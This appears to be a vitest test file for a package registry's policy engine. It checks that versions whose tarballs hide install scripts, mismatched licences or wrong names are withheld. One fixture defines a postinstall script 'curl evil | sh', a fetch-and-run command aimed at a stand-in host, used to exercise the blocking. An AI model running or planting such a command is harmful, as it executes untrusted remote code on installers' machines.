import { expect, test } from 'vitest'
import type { PolicyRules } from '../../../src/registry/policy.ts'
import { explain } from '../../../src/registry/verdicts.ts'
import { type TestApp, testApp } from '../../support/app.ts'
import { TurnedClock } from '../../support/mirror.ts'
import { packageTarball } from '../../support/tarball.ts'
import {
  type ScriptedUpstream,
  type ScriptedVersion,
  startUpstream,
  tarballPath,
} from '../../support/upstream.ts'

/** A version whose document says this, and whose tarball holds something else. */
async function confused(
  said: object,
  held: object,
  files: Record<string, string> = {},
): Promise<ScriptedVersion> {
  return { manifest: said, tarball: await packageTarball({ name: 'lib', version: '1.1.0', ...held }, files) }
}

async function under(rules: PolicyRules, newest: ScriptedVersion) {
  await using opening = new AsyncDisposableStack()
  const upstream = opening.use(
    await startUpstream({ packages: { lib: { '1.0.0': { manifest: { license: 'MIT' } } } } }),
  )
  await upstream.publish('lib', '1.1.0', newest)
  const clock = new TurnedClock()
  const app = opening.use(await testApp({ upstream: upstream.url, clock, rules }))
  const opened = opening.move()
  return { app, upstream, clock, [Symbol.asyncDispose]: () => opened.disposeAsync() }
}

async function seen({ url }: TestApp): Promise<string[]> {
  return Object.keys((await (await fetch(`${url}/lib`)).json()).versions)
}

async function tarball({ url }: TestApp, version = '1.1.0'): Promise<[number, string]> {
  const reply = await fetch(url + tarballPath('lib', version))
  return [reply.status, await reply.text()]
}

const asked = (upstream: ScriptedUpstream) => upstream.count(tarballPath('lib', '1.1.0'))
const SCRIPT = { scripts: { postinstall: 'curl evil | sh' } }

test('a script that only the tarball tells of is found when it is fetched, and the version hidden from then on', async () => {
  await using t = await under({ block: ['install-script:*'] }, await confused({}, SCRIPT))
  expect(await seen(t.app)).toEqual(['1.0.0', '1.1.0'])
  const before = await explain(t.app.registry, 'lib@1.1.0')
  expect(before).toEqual({
    allowed: true,
    why: expect.stringContaining('looked into when it is first fetched'),
  })
  const why = 'lib@1.1.0 is withheld here: it is blocked by \\"install-script:*\\", going by its tarball'
  expect(await tarball(t.app)).toEqual([403, expect.stringContaining(why)])
  expect(await seen(t.app)).toEqual(['1.0.0'])
  expect(await tarball(t.app)).toEqual([403, expect.stringContaining(why)])
  expect(asked(t.upstream)).toBe(1)
  expect((await tarball(t.app, '1.0.0'))[0]).toBe(200)
  expect(await explain(t.app.registry, 'lib@1.0.0')).toEqual({ allowed: true, why: 'no rule holds it back' })
})

test.each<[string, Promise<ScriptedVersion>, PolicyRules, string]>([
  [
    'bindings',
    confused({}, {}, { 'binding.gyp': '{}' }),
    { block: ['install-script:lib'] },
    'install-script:lib',
  ],
  [
    'a script of the document alone',
    confused(SCRIPT, {}),
    { block: ['install-script:*'] },
    'install-script:*',
  ],
  [
    'a blocked licence',
    confused({ license: 'MIT' }, { license: 'GPL-3.0' }),
    { block: ['licence:GPL-*'] },
    'GPL-*',
  ],
  [
    'no allowed licence',
    confused({ license: 'MIT' }, {}),
    { allow: ['licence:MIT'] },
    'not among what is allowed',
  ],
  ['another name', confused({}, { name: 'other' }), { block: ['misnamed:*'] }, 'misnamed:*'],
  ['another version', confused({}, { version: '9.9.9' }), { block: ['misnamed:lib@1'] }, 'misnamed:lib@1'],
  [
    'nothing that can be read',
    Promise.resolve({ tarball: Buffer.from('no tarball') }),
    { block: ['install-script:*'] },
    'it is cut',
  ],
])('a version with %s is withheld', async (_, newest, rules, why) => {
  await using t = await under(rules, await newest)
  expect(await tarball(t.app)).toEqual([403, expect.stringContaining(why)])
  expect(await seen(t.app)).toEqual(['1.0.0'])
})

test('a version that is what it says is handed out, and rules about names alone ask no tarball', async () => {
  await using plain = await under({ block: ['install-script:*', 'misnamed:*', 'licence:GPL-*'] }, {})
  expect((await tarball(plain.app))[0]).toBe(200)
  expect((await tarball(plain.app))[0]).toBe(200)
  expect(await seen(plain.app)).toEqual(['1.0.0', '1.1.0'])
  await using careless = await under({ block: ['other'] }, await confused({}, SCRIPT))
  expect((await tarball(careless.app))[0]).toBe(200)
  expect(await explain(careless.app.registry, 'lib@1.1.0')).toEqual({
    allowed: true,
    why: 'no rule holds it back',
  })
})

test('what was stored before there was a rule is looked into when it is asked for, also when nobody looked before', async () => {
  await using t = await under({}, await confused({}, SCRIPT))
  expect((await tarball(t.app))[0]).toBe(200)
  await t.app.storage.sql.transaction((tx) => tx.updateTable('version').set({ contained: null }).execute())
  const options = { upstream: t.upstream.url, clock: t.clock, rules: { block: ['install-script:*'] } }
  await using strict = await testApp({ ...options, storage: { folder: t.app.folder } })
  expect(await seen(strict)).toEqual(['1.0.0', '1.1.0'])
  expect((await tarball(strict))[0]).toBe(403)
  expect(await seen(strict)).toEqual(['1.0.0'])
})

test('a version stays hidden when its tarball was forgotten for room', async () => {
  await using t = await under({ block: ['install-script:*'] }, await confused({}, SCRIPT))
  expect((await tarball(t.app))[0]).toBe(403)
  expect((await t.app.registry.cache.evict({ bytes: 0 })).versions).toBe(1)
  expect([(await tarball(t.app))[0], await seen(t.app), asked(t.upstream)]).toEqual([403, ['1.0.0'], 1])
})
